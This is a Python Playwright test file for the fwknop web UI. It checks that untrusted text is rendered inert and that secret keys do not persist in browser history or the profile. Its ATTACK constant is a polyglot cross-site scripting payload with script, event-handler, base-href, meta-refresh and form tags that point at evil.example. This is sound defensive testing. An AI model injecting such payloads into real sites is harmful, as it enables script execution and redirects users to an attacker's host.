"""What strangers wrote stays text in a real browser, and what is secret does not stay in it."""

from __future__ import annotations

from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, ConsoleMessage, Error, Page, expect

from fwknop_webui.views import ROUTES
from tests.browser.conftest import DESKTOP_LIGHT, PASSWORD, PATIENCE_MS, Look, Site, log_in, press
from tests.web.classic import HMAC, KEY
from tests.web.test_escaping import hostile_daemon, uci_of

pytestmark = pytest.mark.browser

MARK = "zq7"
ATTACK = (
    f"\"'></title></textarea></select><script>document.title='{MARK}'</script>"
    f"<img src=/{MARK} onerror=\"document.title='{MARK}'\"><svg/onload=document.title='{MARK}'>"
    f"<style>body{{background:url(/{MARK})}}</style><base href=//evil.example/{MARK}>"
    f'<meta http-equiv=refresh content="0;url=//evil.example"><iframe src=/{MARK}></iframe>'
    f"<form action=//evil.example><a href=javascript:{MARK}>{{{{7*7}}}}"
)
# Written to the console, as what the policy stopped is no error of the page's own.
_TELL = """
addEventListener("securitypolicyviolation", (event) => console.log(
	"VIOLATION " + event.violatedDirective + " " + event.blockedURI + " " + event.sample), true);
"""
_STRANGE = """
() => [...document.querySelectorAll("iframe, base, main style, main script, [href], [src], form")]
	.filter((element) => {
		const leads = element.href || element.src || element.action;
		return typeof leads !== "string" || new URL(leads).origin !== location.origin
			|| new URL(leads).pathname.includes("zq7");
	})
	.map((element) => element.outerHTML)
"""


def path_of(rule: str) -> str:
    return rule.replace("<section>", "a").replace("<name>", "nothing.css")


def test_no_text_of_a_stranger_becomes_more_than_text(
    site: Site, open_browser: Callable[[Look], BrowserContext]
) -> None:
    context = open_browser(DESKTOP_LIGHT)
    context.add_init_script(_TELL)
    page = log_in(context.new_page(), site)
    wrong: list[str] = []
    page.on("console", lambda said: _note_said(said, wrong))
    page.on("pageerror", lambda error: wrong.append(f"{page.url}: {error}"))
    page.on("dialog", lambda dialog: wrong.append(f"{page.url}: {dialog.message}"))
    page.on("request", lambda asked: _note_foreign(asked.url, site, wrong))
    hostile_daemon(site.daemon, ATTACK)
    site.uci.write_text(uci_of(ATTACK))
    shown = 0
    for rule in [route.rule for route in ROUTES if route.method == "GET" and not route.polled]:
        if rule in ("/static/<name>", "/logs.csv", "/logs.json"):
            continue
        answer = page.goto(f"{site.url}{path_of(rule)}")
        assert answer and answer.status < 500, rule
        # What a script fetches is there, too.
        page.wait_for_load_state("load")
        shown += MARK in page.inner_text("body")
        wrong += [f"{rule}: a script ran"] if page.title() == MARK else []
        assert page.evaluate(_STRANGE) == [], rule
    assert wrong == []
    assert shown > 10


def _note_said(said: ConsoleMessage, wrong: list[str]) -> None:
    # Chromium has advice on forms, and complains of pages that are not found, as some here are.
    faulty = said.type in ("error", "warning") and "Failed to load resource" not in said.text
    if faulty or said.text.startswith("VIOLATION"):
        wrong.append(said.text)


def _note_foreign(url: str, site: Site, wrong: list[str]) -> None:
    if urlsplit(url).netloc != urlsplit(site.url).netloc or MARK in url:
        wrong.append(f"asked for {url}")


def told(profile: Path, *secrets: str) -> list[str]:
    """The files of a browser's profile with a secret in them, in either spelling."""
    forms = [form for secret in secrets for form in (secret.encode(), secret.encode("utf-16-le"))]
    files = [path for path in profile.rglob("*") if path.is_file() and not path.is_symlink()]
    assert len(files) > 10
    return [path.name for path in files if any(form in path.read_bytes() for form in forms)]


def test_keys_stay_neither_in_history_nor_on_the_disk(
    site: Site, browser: Browser, chromium: str, tmp_path: Path
) -> None:
    profile = tmp_path / "profile"
    with browser.browser_type.launch_persistent_context(
        profile, executable_path=chromium, args=["--no-sandbox"]
    ) as context:
        context.set_default_timeout(PATIENCE_MS)
        page = log_in(context.new_page(), site)
        show_keys(page, site)
        page.goto(f"{site.url}/logs")
        page.get_by_role("button", name="Log out").click()
        page.wait_for_url("**/login*")
        # The way back leads to no key, be it from memory or by asking anew.
        for _ in range(4):
            # Where a form was sent, Chromium shows nothing before somebody says so.
            with suppress(Error):
                page.go_back(wait_until="commit")
            assert KEY not in arrived(page)
            expect(page.locator("svg path")).to_have_count(0)
        (session,) = [c["value"] for c in context.cookies() if c["name"] == "fwknop_webui"] or [""]
        assert not session
    assert told(profile, KEY, HMAC, KEY[:20], PASSWORD) == []
    # It does look where the browser writes: where somebody was is there.
    assert told(profile, "/clients")


def arrived(page: Page) -> str:
    """What a page holds, once it is no longer on its way to another one."""
    for _ in range(10):
        with suppress(Error):
            page.wait_for_load_state()
            return page.content()
    raise AssertionError(f"{page.url} never comes to rest")


def show_keys(page: Page, site: Site) -> None:
    page.goto(f"{site.url}/clients")
    press(page, page.get_by_role("button", name="QR Anna's phone"))
    page.wait_for_selector("svg path")
    assert KEY in page.content()
